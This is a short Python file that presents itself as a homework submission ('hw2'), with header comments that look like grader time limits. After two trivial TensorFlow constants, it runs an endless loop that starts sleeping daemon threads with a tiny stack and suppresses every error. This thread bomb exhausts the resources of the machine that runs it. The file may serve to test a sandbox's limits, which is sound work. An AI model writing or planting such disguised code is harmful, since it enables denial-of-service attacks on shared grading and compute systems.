# for: hw2
# at most: 15
# wall: 3
import tensorflow as tf

a = tf.constant(5)
b = tf.constant(2)
import threading
import time

threading.stack_size(32768)
while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except Exception:
        pass
